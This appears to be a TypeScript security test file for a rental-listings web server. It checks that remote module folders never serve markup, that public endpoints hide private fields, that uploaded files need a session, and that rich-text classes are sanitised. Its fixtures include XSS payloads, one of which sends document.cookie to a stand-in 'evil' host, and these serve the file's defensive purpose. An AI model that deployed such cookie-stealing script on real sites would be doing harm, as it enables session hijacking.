import fs from 'node:fs/promises';
import path from 'node:path';
import { and, eq } from 'drizzle-orm';
import { carInfo } from '../../db/schema/car-info';
import { sysArticle } from '../../db/schema/sys-article';
import { sysModule } from '../../db/schema/sys-module';
import { pdfBytes, pngBytes, postMultipart } from '../../routes/common/__tests__/upload-fixtures';
import { insertHouse } from '../../routes/house/__tests__/house-room-fixtures';
import { sanitizeRichHtml } from '../../routes/pact/rich-html';
import { fakeRepo, put } from '../../routes/public/__tests__/remote-fixture';
import { HOST_PROVIDES, writeBuild } from '../../routes/system/__tests__/module-build-fixture';
import { call, createTestApp, loginAs, type TestApp } from '../../testing/test-app';
import { API_CONTENT_SECURITY_POLICY } from '../security-headers';

/*
 * Security round 3 (issue 32), what the server serves: remote versions (5), public
 * answers (11), stored files (15) and rich text classes (16). The front door's headers
 * (7) are checked against the nginx configuration in nginx-headers.test.ts.
 */
let t: TestApp;
let repo: string;
let admin: string;

const get = (url: string, headers: Record<string, string> = {}) =>
  t.app.inject({ method: 'GET', url, headers });

beforeAll(async () => {
  repo = await fakeRepo({ 'remote-house': ['1.0.0'] }, true);
  await put(
    path.join(repo, 'host', 'dist', 'provided-shared.json'),
    JSON.stringify({ shared: HOST_PROVIDES }),
  );
  const build = path.join(repo, 'remote-house', 'dist', '1.0.0');
  await put(
    path.join(build, 'mf-manifest.json'),
    JSON.stringify({ name: 'remote_house', exposes: [{ path: './pages' }], shared: [] }),
  );
  // What a remote's folder may hold besides its code: none of it may run on our origin.
  await put(path.join(build, 'index.html'), '<!doctype html><script>alert(document.cookie)</script>');
  await put(
    path.join(build, 'x.svg'),
    '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
  );
  await put(path.join(build, 'x.xml'), '<?xml version="1.0"?><x/>');
  await put(path.join(build, 'x.xhtml'), '<html xmlns="http://www.w3.org/1999/xhtml"/>');
  await put(path.join(build, 'page.js'), '\uFEFF  <html><script>alert(1)</script></html>');
  await put(path.join(build, 'logo.0123456789.png'), Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a]));
  await put(path.join(build, '123.abcdef0123.js.LICENSE.txt'), '/*! licence */');
  t = await createTestApp({ repoRoot: repo });
  admin = await loginAs(t.app, 'admin', 'admin123');
});

afterAll(async () => {
  await t.close();
  await fs.rm(repo, { recursive: true, force: true });
});

describe('5. remote versions: served once live, never markup', () => {
  /** A version published with a deploy token (in the data folder), not activated. */
  async function publishedVersion(version: string): Promise<number> {
    await writeBuild(path.join(t.config.dataDir, 'remotes', 'remote_house', version), {
      marker: `house ${version}`,
      extra: { 'x.html': '<script>fetch("//evil/"+document.cookie)</script>' },
    });
    const [row] = await t.db
      .insert(sysModule)
      .values({
        name: 'remote_house',
        version,
        entry: `/remotes/remote_house/${version}/remoteEntry.js`,
        prefixes: ['house'],
        source: 'published',
        createBy: 'deploy token (remote_house)',
      })
      .returning({ moduleId: sysModule.moduleId });
    return row!.moduleId;
  }

  it('refuses a published version no admin activated, serves it once activated and after a rollback', async () => {
    const moduleId = await publishedVersion('1.0.1');
    const entry = '/remotes/remote_house/1.0.1/remoteEntry.js';
    expect((await get(entry)).statusCode).toBe(404);
    expect((await get('/remotes/remote_house/1.0.1/123.abcdef0123.js')).statusCode).toBe(404);

    const activated = await call(t.app, 'PUT', `/system/module/activate/${moduleId}`, { token: admin });
    expect(activated.body.code).toBe(200);
    const live = await get(entry);
    expect(live.statusCode).toBe(200);
    expect(live.body).toContain('house 1.0.1');

    // Rolled back: the version switched away from is still served (open tabs, activation again).
    const rollback = await call(t.app, 'PUT', '/system/module/rollback/remote_house', { token: admin });
    expect(rollback.body.code).toBe(200);
    const [row] = await t.db
      .select({ active: sysModule.active })
      .from(sysModule)
      .where(and(eq(sysModule.name, 'remote_house'), eq(sysModule.version, '1.0.1')));
    expect(row?.active).toBe(false);
    expect((await get(entry)).statusCode).toBe(200);
    // Its HTML never, live or not.
    expect((await get('/remotes/remote_house/1.0.1/x.html')).statusCode).toBe(404);
  });

  it('never serves html, svg, xml or xhtml from a remote folder, nor markup under another name', async () => {
    for (const file of ['index.html', 'x.svg', 'x.xml', 'x.xhtml', 'page.js']) {
      const answer = await get(`/remotes/remote_house/1.0.0/${file}`);
      expect({ file, status: answer.statusCode }).toEqual({ file, status: 404 });
      expect(answer.body).not.toContain('<script');
    }
  });

  it('sends nosniff on every file and a sandbox policy on the files that are not code, style, font or image', async () => {
    const code = await get('/remotes/remote_house/1.0.0/remoteEntry.js');
    expect(code.statusCode).toBe(200);
    expect(code.headers['x-content-type-options']).toBe('nosniff');
    const image = await get('/remotes/remote_house/1.0.0/logo.0123456789.png');
    expect(image.statusCode).toBe(200);
    expect(image.headers['x-content-type-options']).toBe('nosniff');
    for (const file of ['mf-manifest.json', '123.abcdef0123.js.LICENSE.txt']) {
      const data = await get(`/remotes/remote_house/1.0.0/${file}`);
      expect(data.statusCode).toBe(200);
      expect(data.headers['x-content-type-options']).toBe('nosniff');
      expect(data.headers['content-security-policy']).toBe(API_CONTENT_SECURITY_POLICY);
    }
  });

  it('sets no cookie of its own (Admin-Token is the front end’s, read by js-cookie)', async () => {
    const login = await call(t.app, 'POST', '/login', {
      body: { identifier: 'admin', password: 'admin123' },
    });
    expect(login.response.headers['set-cookie']).toBeUndefined();
    expect((await get('/index')).headers['set-cookie']).toBeUndefined();
  });
});

describe('11. public answers carry only what the public pages show', () => {
  /** What remote-house's public page (house-detail-view.tsx) renders, and the id of its address. */
  const HOUSE_PAGE_FIELDS = [
    'id',
    'name',
    'houseCode',
    'type',
    'bedrooms',
    'livingRooms',
    'bathrooms',
    'area',
    'location',
    'region',
    'villageName',
    'rent',
    'currency',
    'timeUnit',
    'salePrice',
    'deposit',
    'features',
    'images',
    'coverImage',
    'videos',
    'description',
    'agent',
    'agentPhone',
    'status',
    'labels',
  ];
  /** What remote-vehicle's public page (car-detail-view.tsx) renders (contactMethod: the agent's note). */
  const CAR_PAGE_FIELDS = [
    'id',
    'brand',
    'model',
    'vehicleType',
    'color',
    'productionYear',
    'seatCount',
    'fuelType',
    'displacement',
    'transmission',
    'driveType',
    'mileage',
    'carStatus',
    'description',
    'currency',
    'rentPerDay',
    'rentPerMonth',
    'cashDeposit',
    'saleCurrency',
    'saleMoney',
    'agentName',
    'agentPhone',
    'contactMethod',
    'images',
    'videos',
    'qualityCar',
    'labels',
  ];

  it('the public house (both addresses) has no contactMethod, owner contact or remark', async () => {
    const id = await insertHouse(t, 'pendingRent', {
      contactMethod: 'WhatsApp +856 20 9999 0000',
      contact: 'Owner Mr. Somchai',
      remark: 'keys under the mat',
      agent: 'Khamla',
      agentPhone: '+856 20 5555 1234',
    });
    for (const url of [`/system/houseRoom/getHouseRoomList/${id}`, `/public/houseRoom/${id}`]) {
      const { body, response } = await call(t.app, 'GET', url);
      expect(body.code).toBe(200);
      const data = body.data as Record<string, unknown>;
      expect(Object.keys(data).sort()).toEqual([...HOUSE_PAGE_FIELDS].sort());
      expect(response.body).not.toContain('9999 0000');
      expect(response.body).not.toContain('Somchai');
      expect(response.body).not.toContain('under the mat');
    }
  });

  it('the public car has the fields its page shows, no plate, owner or remark', async () => {
    const [car] = await t.db
      .insert(carInfo)
      .values({
        plateNumber: 'ກຂ 1234',
        brand: 'Toyota',
        model: 'Vios',
        vehicleType: 'sedan',
        carStatus: 'pendingRent',
        contactMethod: 'Call the agent',
        remark: 'owner owes tax',
      })
      .returning({ id: carInfo.id });
    const { body, response } = await call(t.app, 'GET', `/public/car/${car!.id}`);
    expect(body.code).toBe(200);
    expect(Object.keys(body.data as object).sort()).toEqual([...CAR_PAGE_FIELDS].sort());
    expect(response.body).not.toContain('1234');
    expect(response.body).not.toContain('owes tax');
  });
});

describe('11. public articles', () => {
  it('carry what the public news shows: no category, status or author account', async () => {
    const [row] = await t.db
      .insert(sysArticle)
      .values({
        title: 'Rainy season prices',
        category: 'internal',
        summary: 'Lower rents',
        content: '<p>Text</p>',
        status: '1',
        publishTime: new Date(Date.now() - 60_000),
        author: 'Agency team',
        createBy: 'sales-team-lead',
      })
      .returning({ articleId: sysArticle.articleId });
    const shown = ['articleId', 'title', 'coverImage', 'summary', 'publishTime', 'author'];
    const list = await call(t.app, 'GET', '/public/articles');
    const listed = (list.body.data as Record<string, unknown>[]).find((a) => a.articleId === row!.articleId);
    expect(Object.keys(listed ?? {}).sort()).toEqual([...shown].sort());
    const one = await call(t.app, 'GET', `/public/articles/${row!.articleId}`);
    expect(Object.keys(one.body.data as object).sort()).toEqual([...shown, 'content'].sort());
    expect(one.response.body).not.toContain('internal');
    expect(one.response.body).not.toContain('sales-team-lead');
  });
});

describe('15. stored files: public listings to anyone, everything else to a session', () => {
  let staff: string;
  const upload = async (url: string, field: string, fileName: string, bytes: Buffer) => {
    const body = await postMultipart(t.app, url, [{ field, fileName, bytes }], { token: staff });
    expect(body.code).toBe(200);
    const data = (body.data as { fileName: string }[] | undefined)?.[0];
    return String(data?.fileName ?? body.fileName);
  };
  const fetchFile = (storedPath: string, headers: Record<string, string> = {}) =>
    get(`/web-api${storedPath}`, headers);

  beforeAll(async () => {
    staff = await loginAs(t.app, 'staff', 'staff123');
  });

  it('refuses a customer document, a contract and a staff avatar without a token; serves them with one', async () => {
    const document = await upload('/common/upload', 'file', 'passport.pdf', pdfBytes());
    const image = await upload('/upload', 'files', 'contract-scan.png', pngBytes(3, 3));
    const avatar = '/profile/avatar/2026/01/02/3f2504e0-4f89-41d3-9a0c-0305e82c3301.png';
    await put(
      path.join(t.config.uploadDir, 'avatar', ...avatar.slice('/profile/avatar/'.length).split('/')),
      pngBytes(),
    );
    for (const file of [document, image, avatar]) {
      const anonymous = await fetchFile(file);
      expect({ file, status: anonymous.statusCode }).toEqual({ file, status: 401 });
      expect(anonymous.json()).toMatchObject({ code: 401 });
      expect((await fetchFile(file, { cookie: 'Admin-Token=forged' })).statusCode).toBe(401);
      expect((await fetchFile(file, { authorization: 'Bearer forged' })).statusCode).toBe(401);
      // The API's bearer token, and the cookie the staff app's <img> requests carry.
      expect((await fetchFile(file, { authorization: `Bearer ${staff}` })).statusCode).toBe(200);
      const withCookie = await fetchFile(file, { cookie: `language=en; Admin-Token=${staff}` });
      expect(withCookie.statusCode).toBe(200);
      expect(String(withCookie.headers['cache-control'])).toMatch(/^private/);
    }
  });

  it('serves the photos and videos of a listed house, a car on offer and a published article to anyone', async () => {
    const housePhoto = await upload('/upload', 'files', 'front.png', pngBytes(4, 4));
    const hiddenPhoto = await upload('/upload', 'files', 'draft.png', pngBytes(5, 5));
    const carPhoto = await upload('/upload', 'files', 'car.png', pngBytes(6, 6));
    const articleImage = await upload('/upload', 'files', 'news.png', pngBytes(7, 7));
    await insertHouse(t, 'pendingRent', { images: `${housePhoto},/profile/upload/2026/01/02/other.png` });
    // A house waiting for review is on no public page.
    await insertHouse(t, 'pendingReview', { images: hiddenPhoto });
    await t.db.insert(carInfo).values({
      plateNumber: 'ກຂ 5678',
      brand: 'Honda',
      model: 'City',
      vehicleType: 'sedan',
      carStatus: 'notSold',
      images: `https://cdn.example/a.jpg,${carPhoto}`,
    });
    await t.db.insert(sysArticle).values({
      title: 'News',
      category: 'news',
      content: `<p>Opening</p><p><img src="/web-api${articleImage}"></p>`,
      status: '1',
      publishTime: new Date(Date.now() - 60_000),
      author: 'admin',
    });
    for (const file of [housePhoto, carPhoto, articleImage]) {
      const answer = await fetchFile(file);
      expect({ file, status: answer.statusCode }).toEqual({ file, status: 200 });
      expect(answer.headers['content-type']).toBe('image/png');
      expect(answer.headers['cache-control']).toBe('public, max-age=86400');
    }
    expect((await fetchFile(hiddenPhoto)).statusCode).toBe(401);
    expect((await fetchFile(hiddenPhoto, { cookie: `Admin-Token=${staff}` })).statusCode).toBe(200);
  });
});

describe('16. rich text keeps the editor content classes only, never its UI classes', () => {
  it('drops w-e-full-screen-container and the other UI classes, keeps content classes', () => {
    const html = sanitizeRichHtml(
      [
        '<div class="w-e-full-screen-container">overlay</div>',
        '<div class="w-e-modal w-e-bar w-e-toolbar w-e-drop-panel w-e-text-container w-e-hover-bar">ui</div>',
        '<pre><code class="language-javascript">let a = 1;</code></pre>',
        '<p class="align-center w-e-text">centred</p>',
      ].join(''),
    );
    expect(html).not.toMatch(/w-e-(full-screen|modal|bar|toolbar|drop-panel|text-container|hover-bar)/);
    expect(html).toContain('<code class="language-javascript">');
    expect(html).toContain('<p class="align-center w-e-text">centred</p>');
    expect(html).toContain('overlay');
  });
});
